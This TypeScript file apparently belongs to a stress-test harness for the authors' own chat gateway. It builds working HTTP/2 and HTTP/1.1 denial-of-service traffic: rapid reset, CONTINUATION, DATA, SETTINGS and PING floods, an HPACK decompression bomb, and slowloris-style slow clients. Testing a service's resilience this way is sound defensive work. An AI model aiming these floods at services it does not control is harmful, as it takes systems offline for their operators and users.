import type { Assault } from "./assault.ts";
import {
  bomb,
  END_HEADERS,
  END_STREAM,
  frame,
  headerBlock,
  PREFACE,
  reset,
  settings,
} from "./http2-frames.ts";

/** Each frame a hundred times every 10 ms: ten thousand a second, as far as they are taken. */
const FLOOD = { sockets: 1, everyMs: 10, reads: true };
const A_BURST = 100;
const SLOW_SOCKETS = 1_000;
const SLOW_MS = 1_000;

/** What HTTP/2 allows and nobody means well with; of a client that has a good token. */
export function floods(token: string): Assault[] {
  const request = headerBlock({
    ":method": "POST",
    ":scheme": "http",
    ":authority": "gateway",
    ":path": "/chat",
    authorization: `Bearer ${token}`,
    "content-type": "application/json",
  });
  return [
    { ...FLOOD, name: "rapid reset", opening: hello(), more: opensAndTakesBack(request) },
    {
      ...FLOOD,
      name: "CONTINUATION flood",
      opening: Buffer.concat([hello(), frame("HEADERS", END_STREAM, 1, request)]),
      more: () => burst(() => frame("CONTINUATION", 0, 1, headerBlock({ a: "b" }))),
    },
    {
      ...FLOOD,
      name: "empty CONTINUATION flood",
      opening: Buffer.concat([hello(), frame("HEADERS", END_STREAM, 1, request)]),
      more: () => burst(() => frame("CONTINUATION", 0, 1)),
    },
    {
      ...FLOOD,
      name: "empty DATA flood",
      opening: Buffer.concat([hello(), frame("HEADERS", END_HEADERS, 1, request)]),
      more: () => burst(() => frame("DATA", 0, 1)),
    },
    { ...FLOOD, name: "SETTINGS flood", reads: false, opening: hello(), more: () => burst(settings) },
    {
      ...FLOOD,
      name: "PING flood",
      reads: false,
      opening: hello(),
      more: () => burst(() => frame("PING", 0, 0, Buffer.alloc(8))),
    },
    { ...FLOOD, name: "HPACK bomb", everyMs: 100, opening: hello(), more: bombs(request) },
    ...slowClients(token),
  ];
}

/** Clients that hold on by doing next to nothing. */
function slowClients(token: string): Assault[] {
  const head = `POST /chat HTTP/1.1\r\nhost: gateway\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\n`;
  const slow = { sockets: SLOW_SOCKETS, everyMs: SLOW_MS, reads: true, more: () => Buffer.from("a") };
  return [
    { ...slow, name: "slow headers", opening: Buffer.from(`${head}x-slow: `) },
    {
      ...slow,
      name: "slow bodies",
      sockets: 200,
      opening: Buffer.from(`${head}content-length: 1000\r\n\r\n`),
    },
    {
      ...slow,
      name: "slow readers",
      sockets: 20,
      reads: false,
      // Nothing that counts; but to one who does not read, only a write tells that the connection is gone.
      more: () => Buffer.from("\r\n"),
      opening: Buffer.from(`${head.replace("/chat", "/v1/large")}content-length: 2\r\n\r\n{}`),
    },
  ];
}

function hello(): Buffer {
  return Buffer.concat([PREFACE, settings()]);
}

function burst(make: () => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: A_BURST }, make));
}

function opensAndTakesBack(request: Buffer): () => Buffer {
  let stream = -1;
  return () =>
    burst(() => {
      stream += 2;
      return Buffer.concat([frame("HEADERS", END_HEADERS, stream, request), reset(stream)]);
    });
}

/** Some ten kilobytes that stand for forty megabytes of headers. */
function bombs(request: Buffer): () => Buffer {
  let stream = -1;
  return () => {
    stream += 2;
    const block = Buffer.concat([request, bomb("x".repeat(4_000), 10_000)]);
    return frame("HEADERS", END_HEADERS | END_STREAM, stream, block);
  };
}
